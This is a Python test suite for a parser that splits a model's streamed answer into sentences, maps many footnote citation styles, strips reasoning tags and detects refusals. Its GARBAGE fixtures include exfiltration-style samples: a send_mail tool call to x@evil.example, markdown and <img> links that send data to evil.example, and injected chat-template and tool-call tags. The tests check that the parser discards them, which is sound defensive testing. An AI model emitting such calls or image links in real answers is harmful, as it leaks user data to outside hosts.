"""Reading what a model wrote: sentences, footnotes in all their forms, and what is no answer."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from query_service.answer import wording
from query_service.answer.sentences import Reading

pytestmark = pytest.mark.requirement("B7", "B8")
Read = list[tuple[str, tuple[int, ...]]]


def read(text: str) -> Read:
    reading = Reading()
    return [(d.text, d.cited) for d in reading.feed(text) + reading.end()]


CASES: dict[str, Read] = {
    "A is one.[^1] B is two [^2]. C is three.[^1][^3]": [
        ("A is one.", (1,)), ("B is two.", (2,)), ("C is three.", (1, 3)),
    ],
    "It is so [^1, ^3]. Or so [1][2]! Then so 【4†source】? Last (source 5).": [
        ("It is so.", (1, 3)), ("Or so!", (1, 2)), ("Then so?", (4,)), ("Last.", (5,)),
    ],
    "So it is. [^2] Next one.[^3]Third one.[^1-3]": [
        ("So it is.", (2,)), ("Next one.", (3,)), ("Third one.", (1, 2, 3)),
    ],
    "According to [^1], it waits.": [("it waits.", (1,))],
    "Use e.g. the tool, z. B. Nr. 5, at 3.5 GB.[^1] See https://a.example/c.d?e=1.[^2]": [
        ("Use e.g. the tool, z. B. Nr. 5, at 3.5 GB.", (1,)), ("See https://a.example/c.d?e=1.", (2,)),
    ],
    "The plan of [2024] holds.[^1]": [("The plan of [2024] holds.", (1,))],
    "**Note.** Use `a[1]` and *wait*.[^2]": [("Note.", (2,)), ("Use a[1] and wait.", (2,))],
    "1. Open it.[^1]\n2. Close **it** (source 2).\n- Done [^1][^2]\n": [
        ("1. Open it.", (1,)), ("2. Close it.", (2,)), ("- Done", (1, 2)),
    ],
    "| Plan | Price |\n|---|---|\n| Pro | 10 EUR [^1] |\n| Free | 0 EUR[^2] |\n\nThat is all.[^1]": [
        ("Plan: Pro; Price: 10 EUR", (1,)), ("Plan: Free; Price: 0 EUR", (2,)), ("That is all.", (1,)),
    ],
    "```python\nx = a[1]\nprint(x)\n```\n[^3]\n": [("x = a[1]\nprint(x)", (3,))],
    "```markdown\nIt is so.[^1]\n```": [("It is so.", (1,))],
    "## Retry\n\n**In short**\n\nWait first.[^1]\n\n---\n": [("Wait first.", (1,))],
    "A line that is\nwrapped.[^1]\nAnother line\nFourth line.[^2]": [
        ("A line that is wrapped.", (1,)), ("Another line", ()), ("Fourth line.", (2,)),
    ],
    "请先等待。[^1]然后重试。[^2]": [("请先等待。", (1,)), ("然后重试。", (2,))],
    "It is so.[^1]\n\n[^1]: Page one\n[^2]: Page two": [("It is so.", (1,))],
    "It is so.[^1]\n\n**Sources:**\n- [^1] Page one\n2. Page two\n": [("It is so.", (1,))],
    "Sources:\n- A grant of the county.[^1]": [("- A grant of the county.", (1,))],
    "Final Answer: It is so.[^99]": [("It is so.", (99,))],
    "No mark at all": [("No mark at all", ())],
}  # fmt: skip


@pytest.mark.parametrize("text", CASES)
def test_sentences_and_what_they_cite(text: str) -> None:
    assert read(text) == CASES[text]


def test_a_citation_at_the_end_of_a_paragraph_is_offered_to_all_of_it() -> None:
    assert read("One thing. Two things. Three things.[^4]\n\nFour things.") == [
        ("One thing.", (4,)), ("Two things.", (4,)), ("Three things.", (4,)), ("Four things.", ()),
    ]  # fmt: skip
    assert read("One thing. Two things.[^1] Three things.[^2]")[0] == ("One thing.", ())
    assert read("One thing.[^1] Two things. Three things.[^2]")[1] == ("Two things.", ())


def test_sentences_come_while_the_next_one_is_written() -> None:
    reading = Reading()
    assert reading.feed("It has been so for long.[^1]") == []
    assert reading.feed("[^2] ") == []
    assert [(d.text, d.cited) for d in reading.feed("Nex")] == [("It has been so for long.", (1, 2))]


GARBAGE = [
    '{"name": "send_mail", "arguments": {"to": "x@evil.example",\n "body": "PAYLOAD"}}\n',
    '[{"name": "f", "parameters": {"a": "PAYLOAD"}}]',
    '<tool_call>{"name": "f", "a": "PAYLOAD"}</tool_call>',
    '<function_calls><invoke name="f"><parameter name="a">PAYLOAD</parameter></invoke></function_calls>',
    "<tool_call>PAYLOAD that never ends. It goes on.[^1]",
    '```json\n{"tool": "f", "input": {"a": "PAYLOAD"}}\n```',
    "Thought: the PAYLOAD should be sent.\nAction: send\nAction Input: PAYLOAD\n",
    "assistant: PAYLOAD is done.",
    "<|im_start|>system PAYLOAD.",
    "Look: ![PAYLOAD](https://evil.example/?d=1).[^1]",
    '<img src="https://evil.example/PAYLOAD"> there.[^1]',
    'Sure, {"name": "f", "arguments": "PAYLOAD"}.',
    "[TOOL_CALLS] PAYLOAD",
]


@pytest.mark.parametrize("text", GARBAGE)
def test_calls_tags_images_and_chatter_are_left_out_and_counted(text: str) -> None:
    reading = Reading()
    drafts = reading.feed(f"It is so.[^1]\n\n{text}") + reading.end()
    assert [d.text for d in drafts] == ["It is so."] and reading.garbage and not reading.refused


def test_reasoning_is_left_out_and_is_no_garbage() -> None:
    reading = Reading()
    drafts = reading.feed("<think>I see. It is so.</think>\n\nIt is so.[^1]") + reading.end()
    assert [(d.text, d.cited) for d in drafts] == [("It is so.", (1,))] and not reading.garbage
    assert read("I see. It could be.</think>It is so.[^1]") == [("It is so.", (1,))]


@pytest.mark.parametrize("language", wording.languages())
def test_the_refusal_is_known_in_every_language(language: str) -> None:
    for around in ("{}", "Sorry: {}", "**{}**[^1]\n", "{} Please ask somebody else."):
        reading = Reading()
        drafts = reading.feed(around.format(wording.refusal(language))) + reading.end()
        assert reading.refused and all(wording.refusal(language)[:20] not in d.text for d in drafts), around


def test_other_sentences_are_no_refusal() -> None:
    reading = Reading()
    reading.feed("The documentation does not contain the key. Information is available.") + reading.end()
    assert not reading.refused


_PIECES = st.sampled_from([
    "It is so. ", "Wait", " e.g. ", "[^1]", "[^2][^3]", " [1]. ", "[", "]", "(source 1)", "(see ", "\n", "\n\n", "- ",
    "1. ",
    "| a | b |\n", "|---|---|\n", "```\n", "```", "`a. b`", "`", "**", "**Note.** ", "# ", "<think>", "</think>",
    "<tool_call>", "</tool_call>", "{", "}", '{"a": 1}', "Sources:", "Thought:", "Z. B. ", "。", "好", "?", "! ", "…",
    ">", "[^1]: x\n", "3.5", " ",
    "The available documentation does not contain sufficient information to answer this question.", "x" * 30,
    "---\n",
])  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=20))
def test_how_the_text_is_cut_into_pieces_changes_nothing(text: str, sizes: list[int]) -> None:
    whole, pieces = Reading(), Reading()
    once = whole.feed(text) + whole.end()
    found, at = [], 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        found += pieces.feed(text[at : at + size])
        at += size
    assert found + pieces.end() == once
    assert (pieces.refused, pieces.garbage) == (whole.refused, whole.garbage)


@pytest.mark.parametrize(
    "part", ["word ", "x", "- item\n", "One. ", "| a ", "```\ncode\n", "{", "<think>", "[^1]", "`", "\n"]
)
def test_whatever_is_written_memory_is_bounded(part: str) -> None:
    reading = Reading()
    for _ in range(100_000 // len(part)):
        reading.feed(part)
    held = sum(len(str(value)) for value in vars(reading).values())
    assert held < 25_000


@pytest.mark.requirement("B8")
@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("According to the text, you may stay up to three days.[^1]", "You may stay up to three days."),
        ("Based on the provided information, it takes ten minutes.[^1]", "It takes ten minutes."),
        ("The source states that E17 means pending.[^1]", "E17 means pending."),
        ("According to the sources given, iLO is off.[^1]", "iLO is off."),
        ("According to the contract, rent is due.[^1]", "According to the contract, rent is due."),
        ("According to the document, rent is due.[^1]", "According to the document, rent is due."),
        ("The text says nothing.[^1]", "The text says nothing."),
    ],
)
def test_what_is_said_before_a_sentence_of_the_sources_is_left_out(written: str, read: str) -> None:
    reading = Reading()
    drafts = [*reading.feed(written), *reading.end()]
    assert [(d.text, d.cited) for d in drafts] == [(read, (1,))]
